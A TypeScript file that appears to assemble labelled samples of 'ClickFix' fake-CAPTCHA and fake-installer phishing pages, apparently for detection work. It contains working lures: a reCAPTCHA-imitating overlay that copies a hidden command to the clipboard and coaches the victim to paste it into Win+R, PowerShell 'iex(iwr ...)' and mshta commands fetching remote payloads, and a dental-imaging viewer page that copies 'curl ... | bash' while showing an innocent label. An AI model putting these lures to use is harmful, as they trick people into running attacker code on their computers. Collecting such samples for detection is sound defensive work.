import { type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { b64, charCodes, wpSite } from '../parts/yf-kit.js';

// ClickFix / fake-CAPTCHA pages that talk the visitor into pasting a command.

const recapOverlay = (cmdExpr: string): string => `;(function(){
  var cmd = ${cmdExpr};
  var css = '#rc-ov{position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:999999;display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial,sans-serif}' +
    '#rc-ov .bx{width:320px;border:1px solid #d3d3d3;background:#f9f9f9;border-radius:3px;box-shadow:0 0 4px 1px rgba(0,0,0,.08);padding:14px;display:flex;align-items:center;justify-content:space-between}' +
    '#rc-ov .ck{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer}' +
    '#rc-ov .st{display:none;width:400px;background:#fff;border:1px solid #ccc;box-shadow:0 4px 14px rgba(0,0,0,.2);padding:0}' +
    '#rc-ov .st .hd{background:#1a73e8;color:#fff;padding:18px;font-size:18px}#rc-ov .st ol{font-size:15px;line-height:2;padding:14px 34px}#rc-ov kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-size:13px}' +
    '#rc-ov .st button{margin:0 18px 18px;float:right;background:#1a73e8;color:#fff;border:0;padding:9px 22px;border-radius:2px}';
  var s = document.createElement('style'); s.textContent = css; document.head.appendChild(s);
  var o = document.createElement('div'); o.id = 'rc-ov';
  o.innerHTML = '<div><div class="bx" id="rc-bx"><label style="display:flex;align-items:center;gap:12px;font-size:14px"><span class="ck" id="rc-ck"></span>I\\'m not a robot</label><div style="text-align:center;font-size:10px;color:#555"><div style="font-size:26px">&#8635;</div>reCAPTCHA<br>Privacy - Terms</div></div>' +
    '<div class="st" id="rc-st"><div class="hd">Verification Steps</div><ol><li>Press &amp; hold the Windows Key <kbd>&#8862;</kbd> + <kbd>R</kbd></li><li>In the verification window, press <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd> on your keyboard to finish</li></ol><p style="font-size:12px;color:#666;padding:0 18px">You will observe and agree: "I am not a robot - reCAPTCHA Verification ID: 4471"</p><button id="rc-ok">Verify</button></div></div>';
  document.body.appendChild(o);
  function copy(t){ if (navigator.clipboard && navigator.clipboard.writeText) return navigator.clipboard.writeText(t).catch(fallback); fallback(); function fallback(){ var ta = document.createElement('textarea'); ta.value = t; ta.style.position = 'fixed'; ta.style.opacity = '0'; document.body.appendChild(ta); ta.select(); document.execCommand('copy'); ta.remove(); } }
  document.getElementById('rc-ck').onclick = function(){ copy(cmd); document.getElementById('rc-bx').style.display = 'none'; document.getElementById('rc-st').style.display = 'block'; };
  document.getElementById('rc-ok').onclick = function(){ copy(cmd); };
})();`;

const wpCmd = `powershell -w h -nop -c "iex(iwr 'https://verify-cdn-cloud.com/c/4471.ps1' -UseBasicParsing)" # ✅ ''I am not a robot - reCAPTCHA Verification ID: 4471''`;
const mshtaCmd = 'mshta https://captcha-check-nz.com/v/verify.hta # I am not a robot - Cloudflare ID 83a1f';
const wordPs = `$ErrorActionPreference='SilentlyContinue';$r=iwr -useb 'https://office-fix-cdn.com/wdfix.txt';iex $r.Content;Write-Host 'Microsoft Word cache repaired successfully.'`;

export const entries: Entry[] = [
  {
    id: 'yf-clickfix-macos-terminal-dental-imaging',
    label: 'clickfix',
    kind: 'clickfix-macos',
    url: 'https://viewer.dental-imaging-cloud.com/study/CBCT-20240411-0932',
    body: `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>DentalImaging Cloud Viewer - CBCT Study</title>
<style>
body{margin:0;background:#111827;color:#e5e7eb;font-family:-apple-system,BlinkMacSystemFont,"Helvetica Neue",Arial,sans-serif}
.top{background:#0b1220;padding:12px 20px;font-weight:600;border-bottom:1px solid #1f2937}
.c{max-width:560px;margin:10vh auto;background:#1f2937;border-radius:12px;padding:28px}
.cmd{font-family:Menlo,monospace;background:#0b1220;border:1px solid #374151;border-radius:6px;padding:12px;font-size:13px;word-break:break-all;margin:12px 0;user-select:all}
button{background:#2563eb;color:#fff;border:0;border-radius:6px;padding:10px 20px;font-size:14px}
ol{line-height:1.9;font-size:14px}
</style></head>
<body>
<div class="top">DentalImaging Cloud &middot; Study CBCT-20240411-0932 &middot; Patient: K. Sato</div>
<div class="c">
<h2 style="margin-top:0">Viewer component required</h2>
<p style="font-size:14px">3D CBCT volumes need the DentalImaging native rendering helper for macOS. This is a one-time setup.</p>
<ol><li>Click <b>Copy install command</b></li><li>Press <b>&#8984; Command + Space</b>, type <b>Terminal</b> and press Return</li><li>Paste with <b>&#8984; + V</b> and press Return, then enter your Mac password if asked</li></ol>
<div class="cmd" id="c"></div>
<button id="cp">Copy install command</button>
</div>
<script>
var c = 'echo "Installing DentalImaging Helper..." && curl -fsSL ' + ['https:', '', 'dental-imaging-cloud.com', 'mac', 'helper-install.sh'].join('/') + ' | bash';
document.getElementById('c').textContent = 'Installing DentalImaging Helper for macOS (v2.4.1)';
document.getElementById('cp').onclick = function(){ navigator.clipboard.writeText(c); this.textContent = 'Copied!'; };
</script>
</body></html>`,
  },
];
